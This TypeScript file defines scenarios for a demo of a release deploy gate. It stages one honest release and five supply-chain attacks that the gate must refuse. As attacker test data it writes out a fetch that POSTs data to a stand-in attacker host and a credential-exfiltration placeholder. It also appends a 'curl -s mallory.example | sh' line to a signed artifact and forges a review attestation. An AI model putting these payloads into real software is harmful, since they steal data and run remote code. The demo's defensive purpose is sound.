// The demo's scenarios: one honest release and the attacks the deploy gate must refuse, each run through the real
// actions under the three identities and told as it happens — who did what, what each stage said, and the verdict.

import { createHash } from 'node:crypto';
import { appendFileSync, copyFileSync, readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { type DeployCheckId, type DeployReport, describeReport } from '@twokey/core';
import { type AcmeApp, forgedReviewStatement, type Merge } from './acme-app';
import {
  type DeployResult,
  IDENTITIES,
  type Pipeline,
  runBuild,
  runDeploy,
  runSign,
  type ScenarioFiles,
  type StageResult,
  scenarioFiles,
  signAsBuildIdentity,
  verifyOffline,
} from './pipeline';
import type { Terminal } from './terminal';

export type Expected = 'accepted' | 'refused';

/** How a scenario ended, against what it had to show. */
export interface ScenarioOutcome {
  name: string;
  title: string;
  expected: Expected;
  /** The deploy gate's verdict; `error` when it gave none (the action failed without a report). */
  verdict: Expected | 'error';
  /** `twokey verify`'s exit code on the same files (0 accepted, 1 refused). */
  offlineExitCode: number;
  /** Whether the verdict, its reasons and the offline verdict are what the scenario must show. */
  asExpected: boolean;
  /** What did not go as it must, in words. */
  problems: string[];
  files: ScenarioFiles;
}

interface Scenario {
  name: string;
  title: string;
  expected: Expected;
  /** The deploy checks that must fail, so a refusal is for the right reason. */
  mustFail: DeployCheckId[];
  run(context: ScenarioContext): Promise<void>;
}

interface ScenarioContext {
  pipeline: Pipeline;
  files: ScenarioFiles;
  t: Terminal;
  /** Problems found while running (a stage that should have refused and did not …). */
  problems: string[];
  /** The deploy gate's result, set by `deploy`. */
  deployed?: DeployResult;
}

export function scenarios(app: AcmeApp): Scenario[] {
  const { alice, bob, mallory } = app.people;
  return [
    {
      name: 'honest',
      title: 'An honestly reviewed change',
      expected: 'accepted',
      mustFail: [],
      run: async (c) => {
        tellMerge(c, app.reviewed, `${alice.login} opens`, `${bob.login} approves its head commit`);
        await build(c, app.reviewed.commit, { greeting: 'Bonjour' });
        await sign(c, app.reviewed.commit, true);
        await deploy(c, app.reviewed.commit);
      },
    },
    {
      name: 'self-approved',
      title: 'A self-approved change',
      expected: 'refused',
      mustFail: ['artifact-signature', 'review-attestation'],
      run: async (c) => {
        tellMerge(c, app.selfApproved, `${mallory.login} opens`, `${mallory.login} approves it herself`);
        await build(c, app.selfApproved.commit, {
          greeting: 'Hello',
          payload: "fetch('https://metrics.mallory.example/collect', { method: 'POST', body: name }).catch(() => {});",
        });
        await sign(c, app.selfApproved.commit, false);
        await deploy(c, app.selfApproved.commit);
      },
    },
    {
      name: 'approved-after-merge',
      title: 'A change approved only after it was merged',
      expected: 'refused',
      mustFail: ['artifact-signature', 'review-attestation'],
      run: async (c) => {
        const pr = app.approvedAfterMerge.pullRequest;
        c.t.line(`  ${mallory.login} opens PR #${pr.number} "${pr.title}" and squash-merges it herself, unreviewed,`);
        c.t.line(
          `  onto main as ${short(app.approvedAfterMerge.commit)}; an hour later ${bob.login} approves the merged pull request.`,
        );
        await build(c, app.approvedAfterMerge.commit, { greeting: 'Salut' });
        await sign(c, app.approvedAfterMerge.commit, false);
        await deploy(c, app.approvedAfterMerge.commit);
      },
    },
    {
      name: 'unsigned',
      title: 'An unsigned artifact',
      expected: 'refused',
      mustFail: ['artifact-signature', 'review-attestation'],
      run: async (c) => {
        tellMerge(c, app.unsigned, `${bob.login} opens`, `${alice.login} approves its head commit`);
        await build(c, app.unsigned.commit, { greeting: 'Hola' });
        c.t.step('sign', 'skipped', 'never ran: the release went from build straight to deploy');
        await deploy(c, app.unsigned.commit);
      },
    },
    {
      name: 'build-signed-itself',
      title: 'A build that signed itself',
      expected: 'refused',
      mustFail: ['artifact-signature', 'review-attestation'],
      run: async (c) => {
        const { commit, message } = app.pushed;
        c.t.line(
          `  ${mallory.login} pushes "${message}" straight onto main as ${short(commit)}: no pull request, no review.`,
        );
        c.t.line(
          `  The build job runs her code, so it holds the build identity's OIDC token and signs whatever it likes.`,
        );
        await build(c, commit, {
          greeting: 'Hi',
          payload: "process.env.AWS_SECRET_ACCESS_KEY && console.error('exfiltrating credentials');",
        });
        const artifact = { name: 'app.js', digest: { sha256: sha256Of(c.files.artifact) } };
        const forged = forgedReviewStatement({ commit, artifact, author: mallory, approver: bob });
        await signAsBuildIdentity(c.pipeline, c.files, commit, forged);
        c.t.step(
          'forge',
          'attack',
          `app.js signed, and a review attestation claiming ${bob.login} approved PR #77, both as ${IDENTITIES.build}`,
        );
        await deploy(c, commit);
      },
    },
    {
      name: 'tampered',
      title: 'An artifact changed after signing',
      expected: 'refused',
      mustFail: ['artifact-signature', 'review-attestation', 'build-provenance'],
      run: async (c) => {
        const honest = join(c.pipeline.out, 'honest');
        copyFileSync(join(honest, 'app.js'), c.files.artifact);
        for (const name of readdirSync(join(honest, 'bundles'))) {
          copyFileSync(join(honest, 'bundles', name), join(c.files.bundles, name));
        }
        appendFileSync(
          c.files.artifact,
          "\nimport('node:child_process').then((cp) => cp.exec('curl -s mallory.example | sh'));\n",
        );
        c.t.line(`  The honest release's app.js and all three of its bundles, but ${mallory.login} appends a line to`);
        c.t.line(`  app.js on its way to production (a poisoned cache, a swapped download).`);
        await deploy(c, app.reviewed.commit);
      },
    },
  ];
}

/** Runs every scenario in order; each leaves its files in `<out>/<name>/`. */
export async function runScenarios(pipeline: Pipeline, app: AcmeApp, t: Terminal): Promise<ScenarioOutcome[]> {
  const list = scenarios(app);
  const outcomes: ScenarioOutcome[] = [];
  for (const [index, scenario] of list.entries()) {
    t.heading(`${index + 1}/${list.length}  ${scenario.title}`);
    const context: ScenarioContext = { pipeline, files: scenarioFiles(pipeline, scenario.name), t, problems: [] };
    await scenario.run(context);
    outcomes.push(await conclude(scenario, context));
  }
  return outcomes;
}

// ── stages, as the story tells them ────────────────────────────────────────────────────────────────────────

function tellMerge(c: ScenarioContext, merge: Merge, opens: string, approves: string): void {
  const pr = merge.pullRequest;
  c.t.line(`  ${opens} PR #${pr.number} "${pr.title}", ${approves},`);
  c.t.line(`  and it is squash-merged onto main as ${short(merge.commit)}.`);
}

async function build(c: ScenarioContext, commit: string, change: { greeting: string; payload?: string }) {
  const result = await runBuild(c.pipeline, c.files, commit, change);
  if (!result.ok || result.bundles.length === 0) {
    c.problems.push('the build stage failed');
    c.t.step('build', false, 'the build action failed:');
    showErrors(c, result);
    return;
  }
  const digest = sha256Of(c.files.artifact);
  c.t.step('build', true, `dist/app.js built (sha256:${digest.slice(0, 12)}…); SLSA provenance signed as`);
  c.t.detail(IDENTITIES.build, 'dim');
}

async function sign(c: ScenarioContext, commit: string, shouldSign: boolean) {
  const result = await runSign(c.pipeline, c.files, commit);
  if (result.ok) {
    c.t.step('sign', true, 'review verified on the GitHub API; app.js and a review attestation signed as');
    c.t.detail(IDENTITIES.sign, 'dim');
    if (!shouldSign) c.problems.push('the sign action signed a change it must refuse');
    return;
  }
  c.t.step('sign', false, 'refused to sign; nothing was signed:');
  showErrors(c, result);
  if (shouldSign) c.problems.push('the sign action refused an honestly reviewed change');
  if (result.bundles.length > 0) c.problems.push('the sign action failed but left signed bundles');
}

async function deploy(c: ScenarioContext, commit: string) {
  const result = await runDeploy(c.pipeline, c.files, commit);
  c.deployed = result;
  const report = result.report;
  if (!report) {
    c.t.step('deploy', false, 'the deploy gate wrote no report:');
    showErrors(c, result);
    return;
  }
  const accepted = result.ok && result.verified && report.verdict === 'pass';
  c.t.step('deploy', accepted, accepted ? c.t.ok('accepted') : c.t.bad('refused'));
  // The policy line is the same in every scenario (the introduction names the policy once).
  c.t.detail(describeReport(report).replace(/^policy [^\n]*\n\n?/, ''));
  const record = result.bundles[0];
  if (accepted && record) {
    c.t.detail(`decision record (SLSA verification summary) signed as ${IDENTITIES.deploy}`, 'dim');
  }
}

function showErrors(c: ScenarioContext, result: StageResult): void {
  const errors = result.errors.length > 0 ? result.errors : [`exit code ${result.run.exitCode}`];
  for (const error of errors) c.t.detail(`✗ ${error}`, 'red');
}

/** Compares what happened with what the scenario must show, and asks `twokey verify` for its verdict offline. */
async function conclude(scenario: Scenario, c: ScenarioContext): Promise<ScenarioOutcome> {
  const problems = [...c.problems];
  const report: DeployReport | undefined = c.deployed?.report;
  const accepted = c.deployed?.ok === true && c.deployed.verified && report?.verdict === 'pass';
  const verdict: ScenarioOutcome['verdict'] = report ? (accepted ? 'accepted' : 'refused') : 'error';
  if (verdict !== scenario.expected)
    problems.push(`the deploy gate's verdict is ${verdict}, expected ${scenario.expected}`);
  if (verdict === 'refused' && c.deployed?.ok) problems.push('the deploy step succeeded although the gate refused');
  const failed = new Set(
    report?.artifacts.flatMap((a) => a.checks.filter((k) => k.verdict === 'fail').map((k) => k.id)),
  );
  const notFailed = scenario.mustFail.filter((id) => !failed.has(id));
  if (report && notFailed.length > 0)
    problems.push(`expected these checks to fail, they did not: ${notFailed.join(', ')}`);

  const offline = await verifyOffline(c.pipeline, c.files);
  const offlineVerdict = offline.exitCode === 0 ? 'accepted' : offline.exitCode === 1 ? 'refused' : 'error';
  if (offlineVerdict === verdict) {
    c.t.step(
      'verify',
      true,
      `twokey verify gives the same verdict offline: ${offlineVerdict} (exit ${offline.exitCode})`,
    );
  } else {
    problems.push(`twokey verify says ${offlineVerdict} (exit ${offline.exitCode}), the deploy gate ${verdict}`);
    c.t.step('verify', false, `twokey verify disagrees: ${offlineVerdict} (exit ${offline.exitCode})`);
    if (offline.stderr.trim()) c.t.detail(offline.stderr.trim(), 'red');
  }

  const asExpected = problems.length === 0;
  const must = scenario.expected === 'accepted' ? 'accepted, as it must be' : 'refused, as it must be';
  if (asExpected) c.t.step('result', true, c.t.ok(must));
  else {
    c.t.step('result', false, c.t.bad(`not as expected (it must be ${scenario.expected})`));
    for (const problem of problems) c.t.detail(`✗ ${problem}`, 'red');
  }
  return {
    name: scenario.name,
    title: scenario.title,
    expected: scenario.expected,
    verdict,
    offlineExitCode: offline.exitCode,
    asExpected,
    problems,
    files: c.files,
  };
}

function sha256Of(path: string): string {
  return createHash('sha256').update(readFileSync(path)).digest('hex');
}

function short(sha: string): string {
  return sha.slice(0, 7);
}
